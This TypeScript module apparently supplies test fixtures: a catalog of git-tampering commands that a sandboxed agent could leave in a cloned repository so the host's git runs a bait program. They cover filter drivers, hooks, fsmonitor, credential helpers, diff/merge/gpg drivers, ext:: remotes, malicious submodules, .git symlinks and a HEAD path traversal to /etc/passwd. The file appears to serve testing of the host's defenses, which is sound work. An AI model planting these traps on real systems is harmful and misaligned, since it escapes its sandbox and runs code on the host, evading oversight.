/** What an agent leaves in its clone for the host's git. By name, which is the repository's and the bait's. */

const HOOKS = 'pre-commit commit-msg post-commit pre-push post-checkout reference-transaction post-index-change'

export const TRAPS: Readonly<Record<string, (bait: string, dir: string) => string>> = {
  filter: (bait) =>
    `for f in clean smudge process; do git config filter.evil.$f ${bait}; done; echo '* filter=evil' > .gitattributes`,
  hooks: (bait) => `mkdir -p .git/hooks; for h in ${HOOKS}; do cp ${bait} .git/hooks/$h; done`,
  'hooks-path': (bait) => `mkdir evil; for h in ${HOOKS}; do cp ${bait} evil/$h; done; git config core.hooksPath $PWD/evil`,
  fsmonitor: (bait) => `git config core.fsmonitor ${bait}`,
  programs: (bait) =>
    `for k in core.sshCommand credential.helper core.gitProxy core.askPass core.editor sequence.editor; do git config $k ${bait}; done`,
  drivers: (bait) =>
    `git config diff.external ${bait}; git config diff.evil.textconv ${bait}; git config merge.evil.driver ${bait}; git config gpg.program ${bait}; git config commit.gpgSign true; echo '* diff=evil merge=evil' > .gitattributes`,
  include: (bait) => `printf '[core]\\n\\tfsmonitor = ${bait}\\n' > .evilconfig; git config include.path $PWD/.evilconfig`,
  promisor: (bait) =>
    `git config extensions.partialClone evil; git config remote.evil.url 'ext::${bait}'; git config remote.evil.promisor true; git config remote.evil.uploadpack ${bait}; git config uploadpack.packObjectsHook ${bait}; git config protocol.ext.allow always`,
  nested: (bait) => `git init -q nested; git -C nested config core.fsmonitor ${bait}; echo x > nested/x`,
  submodule: (bait) =>
    `git init -q module; cd module; git config user.email a@b.c; git config user.name a; echo x > x; git add x; git commit -qm x; git config core.fsmonitor ${bait}; cd ..; git add module 2>/dev/null; printf '[submodule "module"]\\n\\tpath = module\\n\\turl = ext::${bait}\\n\\tignore = none\\n\\tupdate = !${bait}\\n' > .gitmodules; git add .gitmodules; git commit -qm Module; echo y > module/y`,
  worktree: (_, dir) => `git config core.worktree ${dir}; git config core.bare true`,
  replace: () =>
    'h=$(git rev-parse HEAD); mkdir -p .git/info; echo $h > .git/info/grafts; git replace --graft $h || git replace -f $h $(git commit-tree -m other HEAD^{tree})',
  index: () => 'git update-index --assume-unchanged README.md',
  'git-file': (_, dir) => `rm -rf .git; echo "gitdir: ${dir}/repos/acme/git-file.git" > .git`,
  'git-link': (_, dir) => `mv .git ${dir}/moved; ln -s ${dir}/moved .git`,
  'git-gone': () => 'rm -rf .git',
  'head-link': (_, dir) => `cp .git/HEAD ${dir}/HEAD; rm .git/HEAD; ln -s ${dir}/HEAD .git/HEAD`,
  'head-pipe': () => 'rm .git/HEAD; mkfifo .git/HEAD',
  'head-path': () => `echo 'ref: refs/heads/../../../../etc/passwd' > .git/HEAD`,
}
